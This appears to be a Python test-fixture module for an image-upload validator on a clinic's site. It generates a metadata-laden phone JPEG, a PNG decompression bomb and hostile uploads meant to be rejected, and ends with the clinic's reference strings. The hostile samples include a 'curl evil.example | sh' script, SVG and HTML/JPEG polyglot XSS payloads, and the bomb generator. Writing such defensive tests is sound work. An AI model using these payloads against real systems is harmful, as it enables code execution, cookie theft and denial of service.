"""Samples: uploads made with Pillow (no binary fixtures), and the clinic's reference strings."""

import struct
import zlib
from io import BytesIO

from PIL import ExifTags, Image

RED = (255, 0, 0)
BLUE = (0, 0, 255)


def encode(image: Image.Image, pillow_format: str, **options) -> bytes:
    buffer = BytesIO()
    image.save(buffer, pillow_format, **options)
    return buffer.getvalue()


def phone_photo(width=1200, height=800) -> bytes:
    """A JPEG stored sideways (EXIF orientation 6: shown turned 90° clockwise), red in its
    top-left corner, with a GPS position and a camera make."""
    image = Image.new("RGB", (width, height), BLUE)
    image.paste(RED, (0, 0, width // 4, height // 4))
    exif = Image.Exif()
    exif[ExifTags.Base.Orientation] = 6
    exif[ExifTags.Base.Make] = "SecretPhoneCo"
    exif[ExifTags.IFD.GPSInfo] = {
        ExifTags.GPS.GPSLatitudeRef: "N",
        ExifTags.GPS.GPSLatitude: (51.0, 30.0, 26.0),
        ExifTags.GPS.GPSLongitudeRef: "W",
        ExifTags.GPS.GPSLongitude: (1.0, 15.0, 3.0),
    }
    return encode(image, "JPEG", quality=90, exif=exif, comment=b"secret-comment")


def png_header(width: int, height: int) -> bytes:
    """A PNG that claims width x height but holds almost no data: a decompression bomb."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        return (
            struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))
        )

    ihdr = struct.pack(">IIBBBBB", width, height, 1, 0, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", ihdr)
        + chunk(b"IDAT", zlib.compress(b"\0" * 64))
        + chunk(b"IEND", b"")
    )


def small_png() -> bytes:
    return encode(Image.new("RGB", (40, 30), "teal"), "PNG")


SVG = (
    b'<svg xmlns="http://www.w3.org/2000/svg" onload=alert(1)><animate onbegin="alert(2)"/>'
    b"<foreignObject><iframe src='javascript:alert(3)'></iframe></foreignObject></svg>"
)
HTML_JPEG_POLYGLOT = (
    b"<!DOCTYPE html><html><body><script>alert(document.cookie)</script><!--"
    + encode(Image.new("RGB", (20, 20), "red"), "JPEG")
    + b"--></body></html>"
)

# (file name, content, the words the refusal must contain)
HOSTILE_UPLOADS = {
    "script renamed .png": ("photo.png", b"#!/bin/sh\ncurl evil.example | sh\n", "not a JPEG"),
    "SVG": ("logo.svg", SVG, "not a JPEG"),
    "SVG named .png": ("logo.png", SVG, "not a JPEG"),
    "HTML/JPEG polyglot": ("photo.jpg", HTML_JPEG_POLYGLOT, "not a JPEG"),
    "truncated JPEG": ("photo.jpg", phone_photo(400, 300)[:3000], "damaged or incomplete"),
    "30000 x 30000 bomb": ("huge.png", png_header(30000, 30000), "too large"),
    "empty file": ("empty.jpg", b"", "empty"),
}


# The reference strings of the clinic's current pages, exactly as they stand (issue 14; \u2013
# is the en dash they carry).
CLINIC_PAGE_REFERENCES = """\
Roselyn Clemente Fuentes et al Can Fam Physician. 2020 Mar; 66(3): 186\u2013187.
Qiao Wen et al Front Neurosci. 2021; 15: 730322.
1. Arch Intern Med. 2009 May 11; 169(9): 858\u2013866. A Randomized Trial Comparing Acupuncture, \
Simulated Acupuncture, and Usual Care for Chronic Low Back Pain.
2. Cochrane Database Syst Rev. 2005 Jan 25;(1):CD001351. Acupuncture and dry-needling for low \
back pain.
3. J Pain Relief  2015, 4: 195. Systematic Review: Acupuncture in Chronic Pain, Low Back Pain \
and Migraine. A Systematic Review and Meta-Analysis of Efficacy, Cost-Effectiveness, and Safety \
of Selected Complementary and Alternative Medicine for Neck and Low-Back Pain   Evidence-Based \
Complementary and Alternative Medicine Volume 2012 (2012)
"""
